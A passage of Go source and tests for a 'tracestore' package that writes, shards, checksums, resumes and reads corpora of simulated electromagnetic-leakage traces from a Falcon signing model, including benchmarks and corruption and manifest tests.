			}
			if err := binary.Write(bw, binary.LittleEndian, uint64(z.Im)); err != nil {
				return err
			}
		}
		if err := binary.Write(bw, binary.LittleEndian, o.Trace.Samples); err != nil {
			return err
		}
	}
	return bw.Flush()
}

func BenchmarkSerializeReflectBaseline(b *testing.B) {
	obs := benchObs(b, 64)
	b.SetBytes(int64(len(obs)) * int64(observationSize(64)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := reflectiveWrite(io.Discard, 64, obs); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkSerializePacked(b *testing.B) {
	obs := benchObs(b, 64)
	b.SetBytes(int64(len(obs)) * int64(observationSize(64)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := WriteV1(io.Discard, 64, obs); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkWriteCorpusV2(b *testing.B) {
	obs := benchObs(b, 64)
	dir := b.TempDir()
	b.SetBytes(int64(len(obs)) * int64(observationSize(64)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		w, err := NewWriter(filepath.Join(dir, "bench.fdt2"), 64, Options{})
		if err != nil {
			b.Fatal(err)
		}
		for _, o := range obs {
			if err := w.Append(o); err != nil {
				b.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkStreamCorpus measures the streamed read path and reports the
// heap held while iterating — the out-of-core claim: working set stays at
// one decode chunk no matter how large the corpus is.
func BenchmarkStreamCorpus(b *testing.B) {
	count := 512
	if testing.Short() {
		count = 64
	}
	obs := benchObs(b, count)
	path := filepath.Join(b.TempDir(), "bench.fdt2")
	w, err := NewWriter(path, 64, Options{})
	if err != nil {
		b.Fatal(err)
	}
	for _, o := range obs {
		if err := w.Append(o); err != nil {
			b.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		b.Fatal(err)
	}
	obs = nil
	c, err := Open(path)
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(count) * int64(observationSize(64)))
	b.ResetTimer()
	var peak uint64
	for i := 0; i < b.N; i++ {
		it, err := c.Iterate()
		if err != nil {
			b.Fatal(err)
		}
		seen := 0
		for {
			if _, err := it.Next(); err == io.EOF {
				break
			} else if err != nil {
				b.Fatal(err)
			}
			seen++
			if seen == count/2 && i == 0 {
				var ms runtime.MemStats
				runtime.GC()
				runtime.ReadMemStats(&ms)
				peak = ms.HeapAlloc
			}
		}
		it.Close()
		if seen != count {
			b.Fatalf("streamed %d of %d observations", seen, count)
		}
	}
	b.ReportMetric(float64(peak), "heap_bytes_mid_stream")
}
