package tracestore

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"

	"falcondown/internal/emleak"
)

// WriteV1 emits the legacy "FDTR" single-blob format (byte-identical to
// the original emleak.WriteObservations, but packed with direct buffer
// stores instead of reflective binary.Write calls). New campaigns should
// use Writer; this exists for compatibility tooling and golden tests.
func WriteV1(w io.Writer, n int, obs []emleak.Observation) error {
	if !validDegree(n) {
		return fmt.Errorf("%w: invalid degree %d", ErrBadFormat, n)
	}
	bw := bufio.NewWriterSize(w, 1<<20)
	var hdr [headerSize]byte
	copy(hdr[:4], magicV1)
	binary.LittleEndian.PutUint32(hdr[4:], version1)
	binary.LittleEndian.PutUint32(hdr[8:], uint32(n))
	binary.LittleEndian.PutUint32(hdr[12:], uint32(len(obs)))
	if _, err := bw.Write(hdr[:]); err != nil {
		return err
	}
	buf := make([]byte, 0, observationSize(n))
	for i, o := range obs {
		if err := checkShape(n, o); err != nil {
			return fmt.Errorf("observation %d: %w", i, err)
		}
		buf = appendObservation(buf[:0], o)
		if _, err := bw.Write(buf); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadV1 loads a legacy "FDTR" blob entirely into memory (the historical
// API). Streaming access to v1 files goes through Open, which reads them
// as single-shard corpora.
func ReadV1(r io.Reader) (n int, obs []emleak.Observation, err error) {
	br := bufio.NewReaderSize(r, 1<<20)
	var hdr [headerSize]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return 0, nil, fmt.Errorf("%w: short header", ErrBadFormat)
	}
	if string(hdr[:4]) != magicV1 {
		return 0, nil, fmt.Errorf("%w: unknown magic %q", ErrBadFormat, hdr[:4])
	}
	if v := binary.LittleEndian.Uint32(hdr[4:]); v != version1 {
		return 0, nil, fmt.Errorf("%w: version %d", ErrBadFormat, v)
	}
	n = int(binary.LittleEndian.Uint32(hdr[8:]))
	count := int(int32(binary.LittleEndian.Uint32(hdr[12:])))
	if !validDegree(n) || count < 0 || count > maxCount {
		return 0, nil, fmt.Errorf("%w: implausible header (n=%d count=%d)", ErrBadFormat, n, count)
	}
	size := observationSize(n)
	buf := make([]byte, size)
	obs = make([]emleak.Observation, count)
	for i := range obs {
		if _, err := io.ReadFull(br, buf); err != nil {
			return 0, nil, fmt.Errorf("%w: observation %d truncated at offset %d",
				ErrBadFormat, i, headerSize+i*size)
		}
		obs[i] = decodeObservation(buf, n)
	}
	return n, obs, nil
}
