package tracestore

import (
	"os"
	"path/filepath"
	"testing"
)

// copyCorpus replicates every shard file of an opened corpus into dir,
// byte for byte, and returns the path Open resolves the replica from.
func copyCorpus(t *testing.T, c *Corpus, dir string) string {
	t.Helper()
	for _, p := range c.Paths() {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, filepath.Base(p)), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return filepath.Join(dir, "traces.fdt2")
}

func TestManifestWriterMatchesOpen(t *testing.T) {
	obs := testCampaign(t, 10)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w := writeCorpus(t, path, obs, Options{ShardObs: 3, ChunkObs: 2})
	wm, err := w.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	c, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	cm, err := c.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	// The writer computed digests as shards closed; Open recomputed them
	// from disk (the backfill path for pre-manifest corpora). They must
	// agree digest for digest.
	if wm.Digest != cm.Digest {
		t.Fatalf("writer digest %s, open digest %s", wm.Digest, cm.Digest)
	}
	if len(wm.Shards) != len(cm.Shards) || len(cm.Shards) != 4 {
		t.Fatalf("writer %d shards, open %d shards, want 4", len(wm.Shards), len(cm.Shards))
	}
	for i := range wm.Shards {
		if wm.Shards[i].SHA256 != cm.Shards[i].SHA256 {
			t.Fatalf("shard %d: writer %s, open %s", i, wm.Shards[i].SHA256, cm.Shards[i].SHA256)
		}
		if wm.Shards[i].Obs != cm.Shards[i].Obs {
			t.Fatalf("shard %d: writer obs %d, open obs %d", i, wm.Shards[i].Obs, cm.Shards[i].Obs)
		}
	}
	if cm.N != 8 || cm.Count != 10 {
		t.Fatalf("open manifest n=%d count=%d", cm.N, cm.Count)
	}
}

func TestManifestContentOnlyAcrossRoots(t *testing.T) {
	obs := testCampaign(t, 10)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ShardObs: 4, ChunkObs: 2})
	c, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	man, err := c.Manifest()
	if err != nil {
		t.Fatal(err)
	}

	// A byte-identical replica under a different root must carry the same
	// digest: content addressing ignores paths, so a worker's replica can
	// be compared against the coordinator's pin.
	replica, err := Open(copyCorpus(t, c, t.TempDir()))
	if err != nil {
		t.Fatal(err)
	}
	rman, err := replica.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	if rman.Digest != man.Digest {
		t.Fatalf("replica digest %s, original %s", rman.Digest, man.Digest)
	}

	// BuildManifest over the raw paths (no corpus open) agrees too.
	bm, err := BuildManifest(c.Paths())
	if err != nil {
		t.Fatal(err)
	}
	if bm.Digest != man.Digest {
		t.Fatalf("BuildManifest digest %s, corpus %s", bm.Digest, man.Digest)
	}
}

func TestManifestDetectsContentDivergence(t *testing.T) {
	obs := testCampaign(t, 10)
	dirA, dirB := t.TempDir(), t.TempDir()
	writeCorpus(t, filepath.Join(dirA, "traces.fdt2"), obs, Options{ShardObs: 4, ChunkObs: 2})

	// The divergent replica: same campaign, one observation's sample
	// nudged (the first corpus is already on disk, so mutating in place
	// is safe). Well-formed, right shape, every CRC valid — only the
	// content digest can tell it apart.
	obs[7].Trace.Samples[0] += 0.5
	writeCorpus(t, filepath.Join(dirB, "traces.fdt2"), obs, Options{ShardObs: 4, ChunkObs: 2})

	a, err := Open(filepath.Join(dirA, "traces.fdt2"))
	if err != nil {
		t.Fatal(err)
	}
	b, err := Open(filepath.Join(dirB, "traces.fdt2"))
	if err != nil {
		t.Fatal(err)
	}
	ma, err := a.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	mb, err := b.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	if ma.Digest == mb.Digest {
		t.Fatal("divergent replica produced the same corpus digest")
	}
	// Only the shard holding observation 7 may differ.
	diff := 0
	for i := range ma.Shards {
		if ma.Shards[i].SHA256 != mb.Shards[i].SHA256 {
			diff++
		}
	}
	if diff != 1 {
		t.Fatalf("%d shard digests differ, want exactly 1", diff)
	}
}

func TestManifestResumeMatchesUninterrupted(t *testing.T) {
	obs := testCampaign(t, 12)
	opts := Options{ShardObs: 5, ChunkObs: 2}

	ref := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, ref, obs, opts)
	refCorpus, err := Open(ref)
	if err != nil {
		t.Fatal(err)
	}
	refMan, err := refCorpus.Manifest()
	if err != nil {
		t.Fatal(err)
	}

	// Interrupted run: 7 observations, Interrupt, resume the rest. The
	// resumed writer re-hashes completed prior shards, so its manifest
	// must equal the uninterrupted one exactly.
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w, err := NewWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range obs[:7] {
		if err := w.Append(o); err != nil {
			t.Fatal(err)
		}
	}
	done, err := w.Interrupt()
	if err != nil {
		t.Fatal(err)
	}
	w2, resumed, err := ResumeWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	if int64(resumed) != done {
		t.Fatalf("resumed %d, interrupted at %d", resumed, done)
	}
	for _, o := range obs[resumed:] {
		if err := w2.Append(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	man, err := w2.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	if man.Digest != refMan.Digest {
		t.Fatalf("resumed manifest digest %s, uninterrupted %s", man.Digest, refMan.Digest)
	}
}

func TestSalvageReportsShardDigest(t *testing.T) {
	obs := testCampaign(t, 9)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ChunkObs: 3})

	// Tear the tail so Salvage rewrites the shard, then check the digest
	// it reports names the bytes actually left on disk.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data[:len(data)-11], 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err := Salvage(path)
	if err != nil {
		t.Fatal(err)
	}
	if rep.SHA256 == "" {
		t.Fatal("salvage report carries no shard digest")
	}
	d, err := HashShard(path)
	if err != nil {
		t.Fatal(err)
	}
	if d.SHA256 != rep.SHA256 {
		t.Fatalf("salvage reported %s, file hashes to %s", rep.SHA256, d.SHA256)
	}
}
