package tracestore

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"time"

	"falcondown/internal/emleak"
)

// Shard layout (v2, little endian):
//
//	header (16 B):  magic "FDT2" | version u32 | n u32 | reserved u32
//	chunks:         repeated  obsCount u32 | payloadLen u32 | crc32c u32 | payload
//	index payload:  chunkCount u32 | per chunk { offset u64, obsCount u32, payloadLen u32 }
//	trailer (24 B): indexOffset u64 | totalObs u64 | crc32c(index) u32 | magic "FDX2"
//
// Invariants: chunk offsets are strictly increasing and contiguous from
// the header; the trailer's totalObs equals the sum of chunk counts; a
// shard without a valid trailer is treated as truncated and rejected.

// defaultChunkBytes targets ~256 KiB decode chunks: large enough to
// amortize syscalls and CRC setup, small enough that a streaming reader's
// working set stays negligible.
const defaultChunkBytes = 256 << 10

// Options tunes a Writer.
type Options struct {
	// ShardObs caps observations per shard file; 0 writes one unsharded
	// file at the exact output path.
	ShardObs int
	// ChunkObs sets observations per checksummed chunk; 0 picks a size
	// targeting ~256 KiB chunks.
	ChunkObs int
	// OnShard, when set, is called after each shard file is finalized.
	OnShard func(path string, observations int, bytes int64)
	// OnProgress, when set, is called after every chunk flush with
	// cumulative campaign statistics.
	OnProgress func(Stats)
}

// Stats reports cumulative acquisition/serialization throughput.
type Stats struct {
	Observations int64
	Bytes        int64
	Shards       int
	Elapsed      time.Duration
}

// Rate returns observations per second.
func (s Stats) Rate() float64 {
	if s.Elapsed <= 0 {
		return 0
	}
	return float64(s.Observations) / s.Elapsed.Seconds()
}

// chunkMeta is one index entry.
type chunkMeta struct {
	offset     int64
	count      uint32
	payloadLen uint32
}

// Writer streams a campaign into one or more v2 shard files. It is not
// safe for concurrent use; parallel acquisition funnels through a single
// collector goroutine (see Acquire).
type Writer struct {
	path     string
	n        int
	obsSize  int
	chunkObs int
	opts     Options

	f        *os.File
	bw       *bufio.Writer
	offset   int64
	chunk    []byte
	chunkCnt int
	chunks   []chunkMeta
	shardCnt int

	paths   []string
	digests []ShardDigest // one per finalized shard, in order
	total   int64
	bytes   int64
	start   time.Time
}

// NewWriter creates a writer for a degree-n campaign rooted at path. With
// Options.ShardObs > 0, shard files are derived from path by inserting a
// zero-padded shard number before the extension (traces.fdt2 →
// traces-00000.fdt2, traces-00001.fdt2, …).
func NewWriter(path string, n int, opts Options) (*Writer, error) {
	if !validDegree(n) {
		return nil, fmt.Errorf("%w: invalid degree %d", ErrBadFormat, n)
	}
	w := &Writer{
		path:    path,
		n:       n,
		obsSize: observationSize(n),
		opts:    opts,
		start:   time.Now(),
	}
	w.chunkObs = opts.ChunkObs
	if w.chunkObs <= 0 {
		w.chunkObs = defaultChunkBytes / w.obsSize
		if w.chunkObs < 1 {
			w.chunkObs = 1
		}
	}
	if err := w.openShard(); err != nil {
		return nil, err
	}
	return w, nil
}

// shardPath returns the file name of shard i.
func (w *Writer) shardPath(i int) string {
	if w.opts.ShardObs <= 0 {
		return w.path
	}
	ext := filepath.Ext(w.path)
	base := w.path[:len(w.path)-len(ext)]
	if ext == "" {
		ext = ".fdt2"
	}
	return fmt.Sprintf("%s-%05d%s", base, i, ext)
}

func (w *Writer) openShard() error {
	path := w.shardPath(w.shardCnt)
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	w.f = f
	w.bw = bufio.NewWriterSize(f, 1<<20)
	w.paths = append(w.paths, path)
	w.chunks = w.chunks[:0]
	w.chunk = w.chunk[:0]
	w.chunkCnt = 0
	var hdr [headerSize]byte
	copy(hdr[:4], magicV2)
	binary.LittleEndian.PutUint32(hdr[4:], version2)
	binary.LittleEndian.PutUint32(hdr[8:], uint32(w.n))
	if _, err := w.bw.Write(hdr[:]); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	w.offset = headerSize
	w.bytes += headerSize
	return nil
}

// shardObs returns the observations already committed to the open shard.
func (w *Writer) shardObs() int {
	obs := w.chunkCnt
	for _, c := range w.chunks {
		obs += int(c.count)
	}
	return obs
}

// Append packs one observation into the current chunk, flushing chunks
// and rolling shards as their limits fill.
func (w *Writer) Append(o emleak.Observation) error {
	if w.f == nil {
		return fmt.Errorf("%w: writer is closed", ErrBadFormat)
	}
	if err := checkShape(w.n, o); err != nil {
		return err
	}
	if w.opts.ShardObs > 0 && w.shardObs() >= w.opts.ShardObs {
		if err := w.finishShard(); err != nil {
			return err
		}
		w.shardCnt++
		if err := w.openShard(); err != nil {
			return err
		}
	}
	w.chunk = appendObservation(w.chunk, o)
	w.chunkCnt++
	w.total++
	if w.chunkCnt >= w.chunkObs {
		return w.flushChunk()
	}
	return nil
}

func (w *Writer) flushChunk() error {
	if w.chunkCnt == 0 {
		return nil
	}
	var hdr [chunkHdrSize]byte
	binary.LittleEndian.PutUint32(hdr[0:], uint32(w.chunkCnt))
	binary.LittleEndian.PutUint32(hdr[4:], uint32(len(w.chunk)))
	binary.LittleEndian.PutUint32(hdr[8:], crc32.Checksum(w.chunk, castagnoli))
	if _, err := w.bw.Write(hdr[:]); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", w.paths[len(w.paths)-1], err)
	}
	if _, err := w.bw.Write(w.chunk); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", w.paths[len(w.paths)-1], err)
	}
	w.chunks = append(w.chunks, chunkMeta{
		offset:     w.offset,
		count:      uint32(w.chunkCnt),
		payloadLen: uint32(len(w.chunk)),
	})
	written := int64(chunkHdrSize + len(w.chunk))
	w.offset += written
	w.bytes += written
	mBytesWritten.Add(written)
	w.chunk = w.chunk[:0]
	w.chunkCnt = 0
	if w.opts.OnProgress != nil {
		w.opts.OnProgress(w.Stats())
	}
	return nil
}

func (w *Writer) finishShard() error {
	if err := w.flushChunk(); err != nil {
		return err
	}
	path := w.paths[len(w.paths)-1]
	idx, tr := buildIndex(w.chunks, w.offset)
	var obs int64
	for _, c := range w.chunks {
		obs += int64(c.count)
	}
	if _, err := w.bw.Write(idx); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	if _, err := w.bw.Write(tr); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	if err := w.bw.Flush(); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	if err := w.f.Close(); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	w.bytes += int64(len(idx) + trailerSize)
	w.f = nil
	w.bw = nil
	// Digest the finalized file so the campaign's content manifest is
	// known at write time. Re-reading (rather than hashing inline) keeps
	// resumed shards — whose prefix predates this writer — on the same
	// code path as fresh ones.
	d, err := HashShard(path)
	if err != nil {
		return err
	}
	d.Obs = int(obs)
	w.digests = append(w.digests, d)
	mShardsWritten.Inc()
	if w.opts.OnShard != nil {
		w.opts.OnShard(path, int(obs), w.offset+int64(len(idx)+trailerSize))
	}
	return nil
}

// Close finalizes the open shard (flushing the partial chunk and writing
// the footer index). The writer is unusable afterwards.
func (w *Writer) Close() error {
	if w.f == nil {
		return nil
	}
	return w.finishShard()
}

// Interrupt finalizes the corpus at the last fully committed chunk,
// discarding the partially filled in-memory chunk, and returns the number
// of observations durable on disk. Unlike Close it keeps chunk boundaries
// on their deterministic (n, Options) grid, so a campaign continued with
// ResumeWriter from this point is byte-identical to an uninterrupted run.
// The writer is unusable afterwards.
func (w *Writer) Interrupt() (int64, error) {
	if w.f == nil {
		return w.total, nil
	}
	w.total -= int64(w.chunkCnt)
	w.chunk = w.chunk[:0]
	w.chunkCnt = 0
	if err := w.finishShard(); err != nil {
		return w.total, err
	}
	return w.total, nil
}

// reopenForAppend seats a writer on an existing shard file: the footer is
// truncated away and subsequent chunks append after the last committed
// one. Used by ResumeWriter; the writer's cumulative counters are restored
// by the caller.
func reopenForAppend(path string, n int, opts Options, paths []string, chunks []chunkMeta, indexOffset int64) (*Writer, error) {
	w := &Writer{
		path:    path,
		n:       n,
		obsSize: observationSize(n),
		opts:    opts,
		start:   time.Now(),
	}
	w.chunkObs = opts.ChunkObs
	if w.chunkObs <= 0 {
		w.chunkObs = defaultChunkBytes / w.obsSize
		if w.chunkObs < 1 {
			w.chunkObs = 1
		}
	}
	last := paths[len(paths)-1]
	f, err := os.OpenFile(last, os.O_RDWR, 0)
	if err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", last, err)
	}
	if err := f.Truncate(indexOffset); err != nil {
		f.Close()
		return nil, fmt.Errorf("tracestore: shard %s: %w", last, err)
	}
	if _, err := f.Seek(indexOffset, io.SeekStart); err != nil {
		f.Close()
		return nil, fmt.Errorf("tracestore: shard %s: %w", last, err)
	}
	w.f = f
	w.bw = bufio.NewWriterSize(f, 1<<20)
	w.offset = indexOffset
	w.chunks = append(w.chunks[:0], chunks...)
	w.shardCnt = len(paths) - 1
	w.paths = append([]string(nil), paths...)
	return w, nil
}

// Stats returns cumulative statistics.
func (w *Writer) Stats() Stats {
	return Stats{
		Observations: w.total,
		Bytes:        w.bytes,
		Shards:       len(w.paths),
		Elapsed:      time.Since(w.start),
	}
}

// Paths returns the shard files written so far.
func (w *Writer) Paths() []string {
	return append([]string(nil), w.paths...)
}
