package tracestore

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

// testCampaign reproduces the fixture parameters used to generate
// testdata/golden_v1.fdtr (keygen seed 41, device seed 42, campaign seed
// 43) so compat tests can regenerate the expected observations.
func testCampaign(t *testing.T, count int) []emleak.Observation {
	t.Helper()
	priv, _, err := falcon.GenerateKey(8, rng.New(41))
	if err != nil {
		t.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: 1.5}, 42)
	obs, err := emleak.NewCampaign(dev, 43).Collect(count)
	if err != nil {
		t.Fatal(err)
	}
	return obs
}

func sameObservations(t *testing.T, want, got []emleak.Observation) {
	t.Helper()
	if len(want) != len(got) {
		t.Fatalf("got %d observations, want %d", len(got), len(want))
	}
	for i := range want {
		if len(want[i].CFFT) != len(got[i].CFFT) ||
			len(want[i].Trace.Samples) != len(got[i].Trace.Samples) {
			t.Fatalf("observation %d shape mismatch", i)
		}
		for k := range want[i].CFFT {
			if want[i].CFFT[k] != got[i].CFFT[k] {
				t.Fatalf("observation %d input %d mismatch", i, k)
			}
		}
		for j := range want[i].Trace.Samples {
			if want[i].Trace.Samples[j] != got[i].Trace.Samples[j] {
				t.Fatalf("observation %d sample %d mismatch", i, j)
			}
		}
	}
}

func writeCorpus(t *testing.T, path string, obs []emleak.Observation, opts Options) *Writer {
	t.Helper()
	w, err := NewWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range obs {
		if err := w.Append(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return w
}

func TestV2RoundTripSingleShard(t *testing.T) {
	obs := testCampaign(t, 9)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w := writeCorpus(t, path, obs, Options{ChunkObs: 4}) // forces partial final chunk
	if st := w.Stats(); st.Observations != 9 || st.Shards != 1 {
		t.Fatalf("stats = %+v", st)
	}
	c, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if c.N() != 8 || c.Count() != 9 || c.Shards() != 1 {
		t.Fatalf("corpus n=%d count=%d shards=%d", c.N(), c.Count(), c.Shards())
	}
	back, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs, back)
}

func TestV2RoundTripMultiShard(t *testing.T) {
	obs := testCampaign(t, 10)
	dir := t.TempDir()
	path := filepath.Join(dir, "traces.fdt2")
	var shards int
	w := writeCorpus(t, path, obs, Options{
		ShardObs: 3,
		ChunkObs: 2,
		OnShard:  func(string, int, int64) { shards++ },
	})
	if shards != 4 || len(w.Paths()) != 4 {
		t.Fatalf("got %d shard callbacks, %d paths; want 4", shards, len(w.Paths()))
	}

	// The unsharded -out spelling must resolve to the shard set.
	c, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if c.Shards() != 4 || c.Count() != 10 {
		t.Fatalf("shards=%d count=%d", c.Shards(), c.Count())
	}
	back, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs, back)

	// A directory of shards must also resolve.
	cd, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if cd.Count() != 10 {
		t.Fatalf("directory open count = %d", cd.Count())
	}

	// Iterating twice must yield the corpus twice (replayable source).
	again, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs, again)
}

func TestGoldenV1Compat(t *testing.T) {
	want := testCampaign(t, 7)
	golden := filepath.Join("testdata", "golden_v1.fdtr")

	// The streaming path reads the legacy blob as a single-shard corpus.
	c, err := Open(golden)
	if err != nil {
		t.Fatal(err)
	}
	if c.N() != 8 || c.Count() != 7 {
		t.Fatalf("golden corpus n=%d count=%d", c.N(), c.Count())
	}
	back, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, want, back)

	// The in-memory compat path agrees.
	f, err := os.Open(golden)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n, obs, err := ReadV1(f)
	if err != nil {
		t.Fatal(err)
	}
	if n != 8 {
		t.Fatalf("ReadV1 n = %d", n)
	}
	sameObservations(t, want, obs)

	// WriteV1 must still emit the historical byte layout exactly.
	var buf bytes.Buffer
	if err := WriteV1(&buf, 8, want); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), raw) {
		t.Fatal("WriteV1 output diverges from the golden v1 file")
	}
}

func TestV1RejectsGarbage(t *testing.T) {
	if _, _, err := ReadV1(bytes.NewReader([]byte("not a trace file at all"))); err == nil {
		t.Fatal("garbage accepted")
	}
	if _, _, err := ReadV1(bytes.NewReader(nil)); err == nil {
		t.Fatal("empty accepted")
	}
	obs := testCampaign(t, 2)
	var buf bytes.Buffer
	if err := WriteV1(&buf, 8, obs); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	if _, _, err := ReadV1(bytes.NewReader(raw[:len(raw)/2])); !errors.Is(err, ErrBadFormat) {
		t.Fatalf("truncated v1 file: err = %v, want ErrBadFormat", err)
	}
	bad := append([]byte(nil), raw...)
	bad[4] = 99
	if _, _, err := ReadV1(bytes.NewReader(bad)); !errors.Is(err, ErrBadFormat) {
		t.Fatalf("bad version: err = %v, want ErrBadFormat", err)
	}

	// The corpus path additionally rejects v1 blobs whose size disagrees
	// with the header (trailing garbage would silently vanish otherwise).
	path := filepath.Join(t.TempDir(), "trailing.fdtr")
	if err := os.WriteFile(path, append(append([]byte(nil), raw...), 0xAB), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(path); !errors.Is(err, ErrBadFormat) {
		t.Fatalf("v1 with trailing garbage: err = %v, want ErrBadFormat", err)
	}
}

func TestCorruptChunkFailsChecksum(t *testing.T) {
	obs := testCampaign(t, 6)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ChunkObs: 3})
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}

	// Flip one payload bit in the second chunk.
	secondChunk := headerSize + chunkHdrSize + 3*observationSize(8)
	raw[secondChunk+chunkHdrSize+17] ^= 0x40
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := Open(path) // index is intact, so open succeeds
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadAll(c)
	if !errors.Is(err, ErrChecksum) {
		t.Fatalf("bit-flipped chunk: err = %v, want ErrChecksum", err)
	}
	if len(got) != 0 {
		// ReadAll returns nothing on error; the first (intact) chunk must
		// not leak through as a partial corpus.
		t.Fatalf("corrupt corpus yielded %d observations", len(got))
	}

	// Corrupting the footer index must fail at Open.
	raw[secondChunk+chunkHdrSize+17] ^= 0x40 // restore payload
	raw[len(raw)-trailerSize-3] ^= 0x01      // flip an index byte
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(path); !errors.Is(err, ErrChecksum) {
		t.Fatalf("corrupt index: err = %v, want ErrChecksum", err)
	}
}

func TestTruncatedShardRejected(t *testing.T) {
	obs := testCampaign(t, 4)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{})
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, cut := range []int{len(raw) - 1, len(raw) - trailerSize, headerSize + 5, 3} {
		if err := os.WriteFile(path, raw[:cut], 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := Open(path); !errors.Is(err, ErrBadFormat) {
			t.Fatalf("truncation to %d bytes: err = %v, want ErrBadFormat", cut, err)
		}
	}
}

func TestOpenMissingCorpus(t *testing.T) {
	if _, err := Open(filepath.Join(t.TempDir(), "nope.fdt2")); err == nil {
		t.Fatal("missing corpus accepted")
	}
	if _, err := Open(t.TempDir()); !errors.Is(err, ErrBadFormat) {
		t.Fatal("empty directory accepted")
	}
}

func TestSliceSource(t *testing.T) {
	obs := testCampaign(t, 3)
	src := NewSliceSource(8, obs)
	if src.N() != 8 || src.Count() != 3 {
		t.Fatalf("n=%d count=%d", src.N(), src.Count())
	}
	back, err := ReadAll(src)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs, back)
}

// acquireTo runs a campaign with the given worker count and returns the
// concatenated shard bytes.
func acquireTo(t *testing.T, dir string, workers int) []byte {
	t.Helper()
	priv, _, err := falcon.GenerateKey(8, rng.New(41))
	if err != nil {
		t.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: 1.5}, 42)
	path := filepath.Join(dir, "traces.fdt2")
	w, err := NewWriter(path, 8, Options{ShardObs: 7, ChunkObs: 3})
	if err != nil {
		t.Fatal(err)
	}
	var last int
	err = Acquire(context.Background(), dev, 99, 20, w, AcquireOptions{
		Workers:  workers,
		Progress: func(done, total int) { last = done },
	})
	if cerr := w.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		t.Fatal(err)
	}
	if last != 20 {
		t.Fatalf("final progress callback reported %d, want 20", last)
